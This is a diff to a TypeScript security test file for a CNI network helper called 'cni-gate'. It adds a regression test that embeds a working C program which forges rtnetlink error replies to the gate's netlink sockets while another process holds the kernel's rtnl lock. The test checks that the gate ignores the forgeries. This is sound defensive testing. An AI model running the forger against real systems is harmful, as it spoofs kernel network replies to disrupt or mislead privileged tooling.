@@ -42,6 +42,101 @@ interface Ran {
   stderr: string;
 }
 
+/**
+ * forge <error>: run as root of a user namespace of the caller's own, inside its network
+ * namespace. Until SIGTERM it sends forged rtnetlink answers (NLMSG_ERROR carrying <error>,
+ * sequence numbers 1..16) once to every NETLINK_ROUTE socket of a cni-gate process that
+ * appears in that namespace (autobind names a socket after its process), while a second
+ * process keeps the rtnl lock busy (a bridge made and deleted), so that a request of the
+ * gate waits in the kernel with its socket already bound. Prints how many sockets of the
+ * gate it reached and how many forged messages the kernel delivered to them.
+ */
+const FORGE_C = String.raw`#include <linux/netlink.h>
+#include <linux/rtnetlink.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/socket.h>
+#include <unistd.h>
+static volatile sig_atomic_t stop;
+static void on_term(int s) { (void)s; stop = 1; }
+static void hammer(void) {
+  int fd = socket(AF_NETLINK, SOCK_RAW, NETLINK_ROUTE);
+  char b[4096];
+  struct sockaddr_nl k = {.nl_family = AF_NETLINK};
+  for (unsigned seq = 1;; seq++) {
+    struct { struct nlmsghdr h; struct ifinfomsg i; char a[64]; } q;
+    memset(&q, 0, sizeof q);
+    int del = seq & 1;
+    q.h.nlmsg_type = del ? RTM_DELLINK : RTM_NEWLINK;
+    q.h.nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK | (del ? 0 : NLM_F_CREATE);
+    q.h.nlmsg_seq = seq;
+    size_t off = NLMSG_LENGTH(sizeof q.i);
+    struct rtattr *a = (struct rtattr *)((char *)&q + off);
+    a->rta_type = IFLA_IFNAME; a->rta_len = RTA_LENGTH(4); memcpy(RTA_DATA(a), "hx0", 4); off += RTA_ALIGN(a->rta_len);
+    if (!del) {
+      struct rtattr *li = (struct rtattr *)((char *)&q + off), *kind = RTA_DATA(li);
+      li->rta_type = IFLA_LINKINFO; kind->rta_type = IFLA_INFO_KIND; kind->rta_len = RTA_LENGTH(7); memcpy(RTA_DATA(kind), "bridge", 7);
+      li->rta_len = RTA_LENGTH(RTA_ALIGN(kind->rta_len)); off += RTA_ALIGN(li->rta_len);
+    }
+    q.h.nlmsg_len = off;
+    if (sendto(fd, &q, off, 0, (struct sockaddr *)&k, sizeof k) >= 0) recv(fd, b, sizeof b, 0);
+  }
+}
+int main(int argc, char **argv) {
+  if (argc < 2) return 100;
+  int error = atoi(argv[1]);
+  int fd = socket(AF_NETLINK, SOCK_RAW | SOCK_CLOEXEC, NETLINK_ROUTE);
+  struct sockaddr_nl me = {.nl_family = AF_NETLINK};
+  socklen_t l = sizeof me;
+  if (fd < 0 || bind(fd, (struct sockaddr *)&me, sizeof me) || getsockname(fd, (struct sockaddr *)&me, &l)) return 101;
+  signal(SIGTERM, on_term);
+  pid_t h = fork();
+  if (h == 0) hammer();
+  printf("ready\n");
+  fflush(stdout);
+  long delivered = 0, reached = 0;
+  static unsigned long long done[65536];
+  int ndone = 0;
+  char buf[4096];
+  while (!stop) {
+    FILE *f = fopen("/proc/self/net/netlink", "r");
+    if (!f) return 102;
+    unsigned long long sk;
+    int proto;
+    unsigned pid;
+    while (fgets(buf, sizeof buf, f)) {
+      if (sscanf(buf, "%llx %d %u", &sk, &proto, &pid) != 3 || proto != NETLINK_ROUTE || pid == 0 || pid == me.nl_pid || pid == (unsigned)h) continue;
+      int seen = 0;
+      for (int i = 0; i < ndone; i++) if (done[i] == sk) seen = 1;
+      if (seen) continue;
+      char cp[64], comm[64] = "";
+      snprintf(cp, sizeof cp, "/proc/%u/comm", pid);
+      FILE *c = fopen(cp, "r");
+      if (c) { if (!fgets(comm, sizeof comm, c)) comm[0] = 0; fclose(c); }
+      if (strcmp(comm, "cni-gate\n")) continue;
+      if (ndone < 65536) done[ndone++] = sk;
+      long before = delivered;
+      for (unsigned seq = 1; seq <= 16; seq++) {
+        struct { struct nlmsghdr h; struct nlmsgerr e; } m;
+        memset(&m, 0, sizeof m);
+        m.h.nlmsg_len = sizeof m; m.h.nlmsg_type = NLMSG_ERROR; m.h.nlmsg_seq = seq; m.h.nlmsg_pid = pid;
+        m.e.error = error; m.e.msg.nlmsg_len = NLMSG_LENGTH(sizeof(struct ifinfomsg)); m.e.msg.nlmsg_type = RTM_GETLINK;
+        m.e.msg.nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK; m.e.msg.nlmsg_seq = seq; m.e.msg.nlmsg_pid = pid;
+        struct sockaddr_nl to = {.nl_family = AF_NETLINK, .nl_pid = pid};
+        if (sendto(fd, &m, sizeof m, MSG_DONTWAIT, (struct sockaddr *)&to, sizeof to) == (ssize_t)sizeof m) delivered++;
+      }
+      if (delivered > before) reached++;
+    }
+    fclose(f);
+  }
+  kill(h, SIGKILL);
+  printf("reached %ld delivered %ld\n", reached, delivered);
+  return 0;
+}
+`;
+
 /** Runs the gate with exactly `environment` (nothing inherited). */
 function gate(args: string[], environment: Record<string, string> = {}): Ran {
   const r = spawnSync(GATE, args, { env: environment, encoding: 'utf8', timeout: 90_000 });
@@ -239,7 +334,7 @@ describe('cni-gate attacks (issue #4): another user cannot touch a victim throug
     // Leave nothing of the intruder's own behind, whatever failed.
     if (own) gate(['del', 'mine', own]);
     gate(['del', 'spare']);
-    for (const id of ['renamed', 'full']) gate(['del', id]);
+    for (const id of ['renamed', 'full', 'forged']) gate(['del', id]);
     for (const c of spawned) c.kill('SIGKILL');
     if (work) await rm(work, { recursive: true, force: true });
   });
@@ -609,9 +704,64 @@ describe('cni-gate attacks (issue #4): another user cannot touch a victim throug
       expect(got, 'what the host listener saw').to.deep.equal([`from ${ownIp}`]);
     });
 
+    it('finding 6: forged rtnetlink answers from root of the own user namespace are ignored; the gate finishes correctly', async function () {
+      this.timeout(180_000);
+      const src = join(work, 'forge.c');
+      const forge = join(work, 'forge');
+      await writeFile(src, FORGE_C);
+      execFileSync('gcc', ['-O2', '-o', forge, src], { stdio: 'pipe' });
+      const pid = await container();
+      const veths = (): string[] => world().mine.filter((l) => l.endsWith(`master=${mine.bridge}`));
+      const before = veths();
+      // "Plausible": every sequence number the gate uses, with "success" (error 0). The old
+      // gate took the first answer with its sequence number from anyone: a forged ack to its
+      // RTM_GETLINK of eth0 read as "the namespace already has an eth0" and add was refused.
+      const forger = spawn('nsenter', ['--preserve-credentials', '-t', pid, '-U', '-n', forge, '0'], { stdio: ['ignore', 'pipe', 'pipe'] });
+      spawned.push(forger);
+      let said = '';
+      forger.stdout!.setEncoding('utf8').on('data', (d: string) => (said += d));
+      for (let i = 0; i < 100 && !said.includes('ready'); i++) await new Promise((r) => setTimeout(r, 50));
+      expect(said, 'the forger runs').to.include('ready');
+      const outcomes: string[] = [];
+      try {
+        for (let i = 0; i < 15; i++) {
+          const started = Date.now();
+          const r = gate(['add', 'forged', pid]);
+          const took = Date.now() - started;
+          // the gate's netlink waits are bounded (5 s each): never held for ever
+          expect(took, `add ${i} took`).to.be.below(60_000);
+          outcomes.push(r.code === 0 ? 'added' : `add: ${r.code} ${r.stderr.trim()}`);
+          if (r.code !== 0) continue;
+          const ip = (JSON.parse(r.stdout) as { ips: { address: string }[] }).ips[0]!.address.split('/')[0]!;
+          expect(inSubnet(ip, mine.subnet), `add ${i}: an address of the own subnet`).to.equal(true);
+          expect(interfacesOf(pid), `add ${i}: eth0`).to.include('eth0');
+          const d = gate(['del', 'forged', pid]);
+          outcomes.push(d.code === 0 ? 'deleted' : `del: ${d.code} ${d.stderr.trim()}`);
+          expect(interfacesOf(pid), `del ${i}: no eth0`).to.not.include('eth0');
+        }
+      } finally {
+        // 'close', not 'exit': its last words may still be in the pipe when it exits
+        const closed = new Promise((r) => forger.on('close', r));
+        forger.kill('SIGTERM');
+        await closed;
+        gate(['del', 'forged', pid]);
+      }
+      const reached = /reached (\d+) delivered (\d+)/.exec(said);
+      expect(reached, `the forger's report: ${said}`).to.not.equal(null);
+      // the attack did land: forged answers sat in the gate's own netlink sockets
+      expect(Number(reached![1]), 'sockets of the gate the forger reached').to.be.above(0);
+      expect(outcomes, 'every add and del did its work despite the forged answers').to.deep.equal(Array(15).fill(['added', 'deleted']).flat());
+      const left = veths();
+      // what the container's namespace holds, should a veth be left (its peer lives there)
+      const inside = JSON.stringify(left) === JSON.stringify(before) ? '' : spawnSync('nsenter', ['--preserve-credentials', '-t', pid, '-U', '-n', 'ip', '-o', '-d', 'link'], { encoding: 'utf8' }).stdout;
+      expect(left, `no veth of the forged container left; in its namespace: ${inside}`).to.deep.equal(before);
+    });
+
     it('finding 6: a caller that never reads stdout cannot hold the gate (a full pipe)', async function () {
       this.timeout(60_000);
       const pid = await container();
+      const veths = (): string[] => world().mine.filter((l) => l.endsWith(`master=${mine.bridge}`));
+      const before = veths();
       const started = Date.now();
       // The pipe to a reader that never reads is filled (64 KiB) before the gate writes its result.
       const r = await new Promise<{ code: number | null; stderr: string }>((resolve) => {
@@ -624,6 +774,7 @@ describe('cni-gate attacks (issue #4): another user cannot touch a victim throug
       expect(took, 'the gate gave up on its output').to.be.below(20_000);
       expect(r).to.deep.equal({ code: 1, stderr: 'cni-gate: cannot write the result to stdout (rolled back)\n' });
       expect(interfacesOf(pid), 'rolled back: no eth0').to.not.include('eth0');
+      expect(veths(), 'no host veth left on the own bridge').to.deep.equal(before);
       expect(gate(['check', 'full', pid]).stderr, 'and no record').to.match(/container full has no network/);
     });
   });
